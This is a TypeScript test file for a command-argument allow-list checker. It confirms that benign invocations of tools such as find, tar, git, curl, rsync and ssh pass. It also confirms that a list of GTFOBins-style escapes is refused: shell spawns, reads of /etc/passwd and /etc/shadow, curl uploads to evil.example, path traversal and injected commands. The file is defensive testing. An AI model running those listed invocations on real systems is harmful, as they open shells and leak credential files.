import { expect, it } from 'vitest';
import type { JsonObject } from '../../codec/index.ts';
import { isDenial } from '../../denial/index.ts';
import { checkConstraint, parseConstraint } from './index.ts';

/**
 * Programs that people grant, as one would write their grammar, and known ways to make a shell, a reader or a writer of
 * each (https://gtfobins.github.io): whatever the grammar does not name is refused.
 */
const beneath = (root: string): JsonObject => ({ constraint_type: 'path_containment', root });
const word: JsonObject = { constraint_type: 'string_pattern', pattern: '*' };

const GRAMMARS: Readonly<Record<string, JsonObject>> = {
  find: {
    positionals: [beneath('/srv')],
    flags: { '-name': { value: 'string' }, '-type': { value: 'string' } },
    interleaved: true,
  },
  tar: { flags: { '-x': {}, '-f': { value: 'string', constraint: beneath('/srv') } } },
  git: { command: ['log'], flags: { '--oneline': {}, '-n': { value: 'integer' } } },
  grep: { flags: { '-r': {}, '-n': {} }, positionals: [word], rest: beneath('/srv') },
  curl: {
    flags: { '--fail': {} },
    positionals: [{ constraint_type: 'url_containment', scheme: 'https', host: 'example.org' }],
  },
  terraform: {
    command: ['apply'],
    flags: { '-input': { value: 'string' } },
    positionals: [beneath('/srv/plans')],
  },
  rsync: { flags: { '-a': {} }, positionals: [beneath('/srv/a'), beneath('/srv/b')] },
  sort: { flags: { '-n': {} }, rest: beneath('/srv') },
  zip: { positionals: [beneath('/srv/out')], rest: beneath('/srv') },
  ssh: {
    positionals: [
      { constraint_type: 'exact', value: 'host.example' },
      { constraint_type: 'exact', value: 'uptime' },
    ],
  },
};

const GOOD: readonly [string, ...string[]][] = [
  ['find', '/srv/a', '-name', '*.csv'],
  ['tar', '-x', '-f', '/srv/a.tar'],
  ['git', 'log', '--oneline', '-n', '5'],
  ['grep', '-r', 'needle', '/srv/a'],
  ['curl', '--fail', 'https://example.org/a'],
  ['rsync', '-a', '/srv/a/x', '/srv/b/x'],
  ['sort', '-n', '/srv/a'],
  ['zip', '/srv/out/a.zip', '/srv/a'],
  ['ssh', 'host.example', 'uptime'],
];

const BAD: readonly [string, ...string[]][] = [
  ['find', '/srv', '-exec', '/bin/sh', ';'],
  ['find', '/srv', '-execdir', 'sh', '{}', '+'],
  ['find', '/srv', '-fprintf', '/srv/x', 'x'],
  ['find', '/srv', '-delete'],
  ['find', '/srv/../etc'],
  ['find', '-files0-from', '/etc/passwd'],
  ['find', '/srv', '-name', '-exec'],
  ['tar', '-x', '-f', '/srv/a.tar', '--checkpoint=1', '--checkpoint-action=exec=sh'],
  ['tar', '-xf/srv/a.tar'],
  ['tar', '-x', '-f', '/srv/a.tar', '-I', 'sh'],
  ['tar', '-x', '-f', '/srv/a.tar', '--to-command=sh'],
  ['tar', '-x', '-f', '/srv/a.tar', '--use-compress-prog=sh'],
  ['tar', '-x', '-f', '/srv/a.tar', '-C', '/'],
  ['git', 'log', '--output=/srv/x'],
  ['git', '-c', 'core.pager=sh', 'log'],
  ['git', 'log', '--ext-diff'],
  ['git', 'log', '-n5'],
  ['git', 'log', '--onelin'],
  ['git', 'log', '--oneline', '--oneline'],
  ['git', 'push'],
  ['grep', '-f', '/etc/shadow', 'x'],
  ['grep', '-rf/etc/shadow', 'x'],
  ['grep', '-r', 'x', '/etc'],
  ['curl', 'file:///etc/passwd'],
  ['curl', 'https://example.org/a', '-o', '/srv/x'],
  ['curl', '-K', '/srv/config'],
  ['curl', '-d', '@/etc/passwd', 'https://example.org/'],
  ['curl', '@/etc/passwd'],
  ['curl', 'https://example.org@evil.example/'],
  ['curl', 'https://example.org/', 'https://evil.example/'],
  ['terraform', 'apply', '-chdir=/', '/srv/plans/a'],
  ['terraform', 'apply', '-auto-approve'],
  ['terraform', 'destroy'],
  ['terraform', 'apply', '/srv/plans/../../etc/x'],
  ['rsync', '-a', '-e', 'sh -c x', '/srv/a', '/srv/b'],
  ['rsync', '-a', '--rsh=sh', '/srv/a', '/srv/b'],
  ['rsync', '-a', '/srv/a', 'evil.example:/x'],
  ['sort', '-o', '/srv/x', '/srv/a'],
  ['sort', '--compress-program=sh', '/srv/a'],
  ['sort', '--files0-from=/etc/passwd'],
  ['zip', '/srv/out/a.zip', '/srv/a', '-T', '-TT', 'sh #'],
  ['ssh', '-o', 'ProxyCommand=sh', 'host.example', 'uptime'],
  ['ssh', '-oProxyCommand=sh', 'host.example', 'uptime'],
  ['ssh', 'host.example', 'uptime; sh'],
  ['ssh', 'host.example', 'uptime', '&&', 'sh'],
];

function accepts([program, ...argv]: readonly [string, ...string[]]): boolean {
  const constraint = parseConstraint({ constraint_type: 'argv', ...GRAMMARS[program] });
  if (isDenial(constraint)) throw new Error(constraint.detail);
  return checkConstraint(constraint, argv);
}

it.each(GOOD.map((line) => [line] as const))('takes what it is for: %j', (line) => {
  expect(accepts(line)).toBe(true);
});

it.each(BAD.map((line) => [line] as const))('refuses a way out: %j', (line) => {
  expect(accepts(line)).toBe(false);
});
